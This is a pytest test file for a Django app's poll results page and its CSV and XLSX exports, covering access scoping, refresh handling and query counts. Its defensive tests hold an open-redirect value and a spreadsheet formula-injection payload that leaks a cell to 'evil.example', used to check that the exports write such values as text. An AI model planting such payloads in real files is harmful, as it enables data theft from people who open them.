"""The poll results page, its card on the post page, "refresh now", the CSV and XLSX exports, access and queries."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from filial.channels.models import Channel, Network
from filial.conftest import PASSWORD, Net
from filial.inbox.models import PollCount, PollTally
from filial.inbox.poll_results import poll_report
from filial.inbox.views.polls import results_xlsx
from filial.publishing.models import Delivery, Poll, PollAnswer, Post

ANSWERS = ["Классика", "Фантастика", "Детективы"]


def client_for(net: Net, role: str) -> Client:
    c = Client()
    assert c.login(username=net.users[role].username, password=PASSWORD)
    return c


def counted_post(net: Net, pages: list[tuple[Channel, list[int] | None, str]], *, ended: bool = False,
                 question: str = "Что почитать летом?") -> Post:
    """A published poll post with one delivery per page: counts (None = never counted) and the last error."""
    now = timezone.now()
    post = Post.objects.create(unit=net.central, author=net.users["admin"], kind=Post.Kind.POLL,
                               text="Голосуйте!", state=Post.State.PUBLISHED, publish_at=now - timedelta(hours=2))
    poll = Poll.objects.create(post=post, question=question,
                               ends_at=now - timedelta(minutes=5) if ended else now + timedelta(days=2))
    PollAnswer.objects.bulk_create([PollAnswer(poll=poll, text=t, position=i) for i, t in enumerate(ANSWERS)])
    for channel, counts, error in pages:
        native = channel.network != Network.MAX
        delivery = Delivery.objects.create(
            post=post, channel=channel, due_at=now - timedelta(hours=2),
            state=Delivery.State.PUBLISHED if native else Delivery.State.FAILED,
            external_id="1_2" if native else "", published_at=now - timedelta(hours=2) if native else None)
        if not native:
            continue
        tally = PollTally.objects.create(
            delivery=delivery, post=post, total_voters=sum(counts) if counts is not None else None,
            counted_at=now - timedelta(minutes=3) if counts is not None else None, error=error,
            error_at=now if error else None, closed=ended and counts is not None)
        if counts is not None:
            PollCount.objects.bulk_create([PollCount(tally=tally, position=i, text=ANSWERS[i], votes=v)
                                           for i, v in enumerate(counts)])
    return post


@pytest.fixture
def post(net: Net) -> Post:
    ch = net.channels
    return counted_post(net, [
        (ch["central_vk"], [5, 3, 0], ""),
        (ch["central_ok"], [1, 0, 1], ""),
        (ch["children_tg"], None, "Bad Gateway"),
        (ch["central_max"], None, ""),
    ])


def test_results_page_shows_per_network_and_summed_results(net: Net, post: Post) -> None:
    response = client_for(net, "viewer").get(reverse("inbox:poll_results", args=[post.pk]))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Что почитать летом?" in html and 'class="poll-bar"' in html and '<figure class="poll-chart"' in html
    assert "style=" not in html  # strict CSP: no inline styles, the bars are SVG attributes
    report = response.context["report"]
    assert [a.votes for a in report.answers] == [6, 3, 1] and report.total_voters == 10
    assert [a.percent for a in report.answers] == [60.0, 30.0, 10.0]
    assert "60.0 %" in html and "Count failed" in html and "Bad Gateway" in html
    assert "This network has no native polls." in html
    # The failed page is not shown as zero: its cells are dashes and it is left out of the sum.
    tg = next(p for p in report.pages if p.network == "telegram")
    assert tg.votes == [None, None, None] and not tg.in_sum
    assert "not shown as zero" in html
    assert "Refresh now" not in html  # a viewer cannot refresh


def test_post_page_links_to_the_results_and_loads_the_card(net: Net, post: Post) -> None:
    c = client_for(net, "editor_central")
    html = c.get(reverse("publishing:post_detail", args=[post.pk])).content.decode()
    assert reverse("inbox:poll_results", args=[post.pk]) in html
    assert f'hx-get="{reverse("inbox:poll_card", args=[post.pk])}"' in html
    card = c.get(reverse("inbox:poll_card", args=[post.pk]))
    assert card.status_code == 200 and b"<html" not in card.content and b"Refresh now" in card.content


def test_access_is_scoped(net: Net, post: Post) -> None:
    other_system_user = client_for(net, "outsider")
    for name in ("inbox:poll_results", "inbox:poll_card", "inbox:poll_export_csv", "inbox:poll_export_xlsx"):
        assert other_system_user.get(reverse(name, args=[post.pk])).status_code == 404, name
    assert other_system_user.post(reverse("inbox:poll_refresh", args=[post.pk])).status_code == 404
    anonymous = Client().get(reverse("inbox:poll_results", args=[post.pk]))
    assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]
    # A draft of the children's library is not visible to the central library's editor.
    draft = counted_post(net, [(net.channels["children_ok"], [1, 1, 1], "")])
    Post.objects.filter(pk=draft.pk).update(unit=net.children, state=Post.State.DRAFT)
    assert client_for(net, "editor_central").get(reverse("inbox:poll_results", args=[draft.pk])).status_code == 404
    assert client_for(net, "editor_children").get(reverse("inbox:poll_results", args=[draft.pk])).status_code == 200
    # A post without a poll has no results.
    Poll.objects.filter(post=post).delete()
    assert client_for(net, "admin").get(reverse("inbox:poll_results", args=[post.pk])).status_code == 404


def test_refresh_is_a_post_for_writers(net: Net, post: Post, django_capture_on_commit_callbacks: Any) -> None:
    url = reverse("inbox:poll_refresh", args=[post.pk])
    assert client_for(net, "editor_central").get(url).status_code == 405
    assert client_for(net, "viewer").post(url).status_code == 403
    PollTally.objects.update(counted_at=timezone.now() - timedelta(hours=1), error="")
    from filial.core import taskqueue
    from filial.inbox.polls import POLL_FETCH

    queued: list[int] = []
    original = taskqueue.enqueue

    def hold_fetches(name: str, *args: Any) -> Any:
        if name != POLL_FETCH:
            return original(name, *args)
        queued.append(args[0])

    taskqueue.enqueue = hold_fetches  # type: ignore[assignment]
    try:
        with django_capture_on_commit_callbacks(execute=True):
            response = client_for(net, "editor_central").post(url, {"next": "https://evil.example/"})
        assert response.status_code == 302 and response["Location"] == reverse("inbox:poll_results", args=[post.pk])
        assert sorted(queued) == sorted(PollTally.objects.filter(post=post).exclude(
            delivery__channel__network="telegram").values_list("delivery_id", flat=True))
        with django_capture_on_commit_callbacks(execute=True):
            partial = client_for(net, "editor_central").post(url, {"in_post": "1"}, HTTP_HX_REQUEST="true")
    finally:
        taskqueue.enqueue = original
    assert partial.status_code == 200 and b'id="poll-results"' in partial.content and b"<html" not in partial.content
    assert b"Telegram shows a poll" in partial.content


def test_csv_export_opens_in_russian_excel(net: Net, post: Post) -> None:
    response = client_for(net, "viewer").get(reverse("inbox:poll_export_csv", args=[post.pk]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;") and f"poll-results-{post.pk}" in disposition and ".csv" in disposition
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Poll", "Что почитать летом?"]
    header = rows[5]
    assert header[0] == "Answer" and header[-2:] == ["Total", "Share of voters"]
    assert header[1:-2] == ["VK: ЦГБ Медногорска ВКонтакте", "Odnoklassniki: Центральная библиотека Медногорска",
                            "Telegram: Детская библиотека Медногорска", "MAX: ЦГБ Медногорска в MAX"]
    assert rows[6] == ["Классика", "5", "1", "", "", "6", "60,0%"]  # failed and MAX pages: empty, not 0
    assert rows[9][0] == "Voters" and rows[9][-2] == "10"
    status = rows[11]
    assert status[0] == "Status" and status[3].startswith("count failed: Bad Gateway")
    assert status[4] == "this network has no polls"


def test_xlsx_export_per_network_and_total(net: Net, post: Post) -> None:
    response = client_for(net, "viewer").get(reverse("inbox:poll_export_xlsx", args=[post.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert ".xlsx" in response["Content-Disposition"]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A1"].value == "Poll" and sheet["B1"].value == "Что почитать летом?"
    assert [c.value for c in sheet[6]][:2] == ["Answer", "VK: ЦГБ Медногорска ВКонтакте"]
    assert [c.value for c in sheet[7]] == ["Классика", 5, 1, None, None, 6, 0.6]
    assert sheet.cell(row=7, column=7).number_format == "0.0%"
    assert [c.value for c in sheet[10]][:2] == ["Voters", 5 + 3]
    assert sheet.cell(row=10, column=6).value == 10
    counted = sheet.cell(row=11, column=2).value
    assert counted is not None and counted.tzinfo is None  # local wall-clock time of the unit (zone in row 4)
    assert sheet["B4"].value == "Asia/Yekaterinburg"


def test_results_view_query_count_does_not_grow_with_pages(net: Net) -> None:
    ch = net.channels
    small = counted_post(net, [(ch["central_vk"], [1, 2, 3], "")])
    large = counted_post(net, [(ch["central_vk"], [1, 2, 3], ""), (ch["central_ok"], [3, 2, 1], ""),
                               (ch["children_ok"], [0, 0, 1], ""), (ch["branch4_ok"], None, "timeout"),
                               (ch["children_tg"], [1, 1, 1], ""), (ch["automation_vk"], [2, 0, 0], ""),
                               (ch["central_max"], None, "")])
    c = client_for(net, "admin")
    c.get(reverse("inbox:poll_results", args=[small.pk]))  # warm caches (session, content types)
    counts = []
    for p in (small, large):
        with CaptureQueriesContext(connection) as ctx:
            assert c.get(reverse("inbox:poll_results", args=[p.pk])).status_code == 200
        counts.append(len(ctx.captured_queries))
    assert counts[0] == counts[1], counts
    assert counts[1] <= 12, counts


def test_shares_with_several_answers_are_of_voters(net: Net) -> None:
    """With several answers allowed the networks count voters, not votes: shares may add up beyond 100 %."""
    post = counted_post(net, [(net.channels["central_vk"], [2, 2, 0], "")])
    PollTally.objects.filter(post=post).update(total_voters=2)
    report = poll_report(net.users["admin"], post.pk)
    assert report is not None and [a.percent for a in report.answers] == [100.0, 100.0, 0.0]
    assert results_xlsx(report)[:2] == b"PK"


HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_exports_write_formula_like_texts_as_text(net: Net) -> None:
    """A poll question or answer that starts like a formula is exported as text: CSV cells prefixed with ', XLSX
    string cells (before: the XLSX held a live formula, the CSV a cell Excel runs)."""
    post = counted_post(net, [(net.channels["central_vk"], [2, 1, 0], "")], question="+7 books or -3?")
    PollAnswer.objects.filter(poll__post=post, position=0).update(text=HOSTILE)
    PollAnswer.objects.filter(poll__post=post, position=1).update(text="@SUM(1)")
    PollAnswer.objects.filter(poll__post=post, position=2).update(text="\t=1+1")
    c = client_for(net, "viewer")
    body = c.get(reverse("inbox:poll_export_csv", args=[post.pk])).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[0][1] == "'+7 books or -3?"
    assert [r[0] for r in rows[6:9]] == ["'" + HOSTILE, "'@SUM(1)", "'\t=1+1"]
    assert rows[6][1:3] == ["2", "2"]  # numbers stay numbers
    from openpyxl import load_workbook

    content = c.get(reverse("inbox:poll_export_xlsx", args=[post.pk])).content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [sheet.cell(row=r, column=1) for r in (7, 8, 9)]
    assert [cell.value for cell in cells] == ["'" + HOSTILE, "'@SUM(1)", "'\t=1+1"]
    assert {cell.data_type for cell in cells} == {"s"} and sheet["B1"].data_type == "s"
    assert sheet.cell(row=7, column=2).value == 2 and sheet.cell(row=7, column=2).data_type == "n"
    import zipfile

    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere in the sheet
